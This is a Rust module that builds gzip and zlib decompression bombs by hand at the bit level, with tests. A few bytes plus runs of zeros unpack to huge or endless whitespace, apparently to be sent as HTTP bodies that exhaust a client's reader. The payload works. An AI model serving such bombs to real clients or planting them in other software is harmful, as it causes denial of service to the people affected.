//! Bodies that are small on the wire and large unpacked: blanks, which JSON readers skip without end.
//!
//! The format (RFC 1951) allows a code of one bit for "258 more bytes as the last one". With it a thousand blanks take a single byte, which
//! is always the same: zero. So a bomb is a few bytes of head, zeros, and a few bytes of tail; nothing has to be packed.

use bytes::Bytes;

use crate::crc32;

/// What the bomb unpacks to.
const BLANK: u8 = b' ';
/// Blanks that one repetition stands for, the most that there is.
const LENGTH: u64 = 258;
/// Blanks behind one byte of zeros: four repetitions of two bits each.
const PER_BYTE: u64 = 4 * LENGTH;

/// A gzip file of blanks: what comes before the zeros, how many of them, and what comes after.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Bomb {
    pub(crate) head: Bytes,
    pub(crate) zeros: u64,
    pub(crate) tail: Bytes,
}

impl Bomb {
    /// A file that unpacks to about so many blanks.
    pub(crate) fn gzip(unpacked: u64) -> Self {
        let zeros = (unpacked / PER_BYTE).max(1);
        // The literal is one more.
        let blanks = zeros * PER_BYTE + 1;
        let (block, used) = block();
        let head = [&[0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255][..], &block].concat();
        // Where the head ends within a byte, the zeros begin in it, and their last bits share a byte with the end of the block.
        let mut tail = Bits { bytes: Vec::new(), used: 0 };
        tail.push(0, used);
        tail.push_code(0b11, 2);
        let mut tail = tail.bytes;
        tail.extend_from_slice(&crc32::of_run(BLANK, blanks).to_le_bytes());
        let size = u32::try_from(blanks & u64::from(u32::MAX)).unwrap_or_default();
        tail.extend_from_slice(&size.to_le_bytes());
        Self { head: head.into(), zeros: zeros - u64::from(used > 0), tail: tail.into() }
    }

    /// The beginning of a zlib stream (`Content-Encoding: deflate`) of blanks; zeros follow without end.
    pub(crate) fn deflate() -> Bytes {
        let (block, _) = block();
        [&[0x78, 0x9c][..], &block].concat().into()
    }

    /// Bytes of the whole file.
    pub(crate) fn len(&self) -> u64 {
        self.head.len() as u64 + self.zeros + self.tail.len() as u64
    }
}

/// Bits, the lowest of a byte first.
struct Bits {
    bytes: Vec<u8>,
    /// Bits of the last byte that are used; 0 when it is full or there is none.
    used: u32,
}

impl Bits {
    /// The lowest bit first, as numbers are written.
    fn push(&mut self, value: u32, bits: u32) {
        for bit in 0..bits {
            if self.used == 0 {
                self.bytes.push(0);
            }
            if let Some(last) = self.bytes.last_mut() {
                *last |= u8::from(value >> bit & 1 == 1) << self.used;
            }
            self.used = (self.used + 1) % 8;
        }
    }

    /// The highest bit first, as codes are written.
    fn push_code(&mut self, code: u32, bits: u32) {
        for bit in (0..bits).rev() {
            self.push(code >> bit, 1);
        }
    }
}

/// The head of the only block and its first blank. Codes: `0` repeats 258 times, `10` is a blank, `11` ends the block; distances have the
/// one code `0`, the byte before.
fn block() -> (Vec<u8>, u32) {
    let mut out = Bits { bytes: Vec::new(), used: 0 };
    // The last block, with codes of its own; 286 symbols, 1 distance, 18 lengths of code lengths.
    out.push(1, 1);
    out.push(2, 2);
    out.push(286 - 257, 5);
    out.push(0, 5);
    out.push(18 - 4, 4);
    // The lengths that occur are 0 (only in runs), 1 and 2; runs of zeros are symbol 18. Each of the three gets a code: 18 `0`, 1 `10`, 2 `11`.
    const ORDER: [u32; 18] = [16, 17, 18, 0, 8, 7, 9, 6, 10, 5, 11, 4, 12, 3, 13, 2, 14, 1];
    for symbol in ORDER {
        let length = match symbol {
            18 => 1,
            1 | 2 => 2,
            _ => 0,
        };
        out.push(length, 3);
    }
    // A run is 11 to 138 long.
    let zeros = |out: &mut Bits, run: u32| {
        out.push_code(0, 1);
        out.push(run - 11, 7);
    };
    let (one, two) = (0b10, 0b11);
    zeros(&mut out, u32::from(BLANK));
    out.push_code(two, 2);
    // Up to symbol 256, the end of the block.
    zeros(&mut out, 138);
    zeros(&mut out, 255 - u32::from(BLANK) - 138);
    out.push_code(two, 2);
    // Up to symbol 285, the repetition by 258.
    zeros(&mut out, 28);
    out.push_code(one, 2);
    // The only distance.
    out.push_code(one, 2);
    // The first blank, which the repetitions repeat.
    out.push_code(0b10, 2);
    let used = out.used;
    (out.bytes, used)
}

#[cfg(test)]
mod tests {
    use std::io::Read;

    use flate2::read::{GzDecoder, ZlibDecoder};

    use super::*;

    #[test]
    fn an_independent_reader_unpacks_the_bomb_to_its_last_byte() {
        for unpacked in [0, PER_BYTE, PER_BYTE * 2 - 1, 3_000_000] {
            let bomb = Bomb::gzip(unpacked);
            let zeros = vec![0; usize::try_from(bomb.zeros).unwrap_or_default()];
            let file = [&bomb.head[..], &zeros, &bomb.tail].concat();
            assert_eq!(file.len() as u64, bomb.len());
            let mut text = Vec::new();
            let read = GzDecoder::new(&file[..]).read_to_end(&mut text);
            // Length and checksum are part of the file, and the reader compares them.
            assert!(read.is_ok_and(|read| read as u64 >= unpacked.saturating_sub(PER_BYTE)));
            assert!(text.iter().all(|byte| *byte == BLANK));
        }
        let bomb = Bomb::gzip(1 << 30);
        assert!((1 << 30) / bomb.len() > 1000, "{}", bomb.len());
    }

    #[test]
    fn deflate_goes_on_as_long_as_there_are_zeros() {
        let stream = [&Bomb::deflate()[..], &[0; 4096]].concat();
        let mut reader = ZlibDecoder::new(&stream[..]);
        let mut text = Vec::new();
        assert!(reader.read_to_end(&mut text).is_err(), "it has no end");
        assert!(text.len() > 4_000_000 && text.iter().all(|byte| *byte == BLANK), "{}", text.len());
    }
}
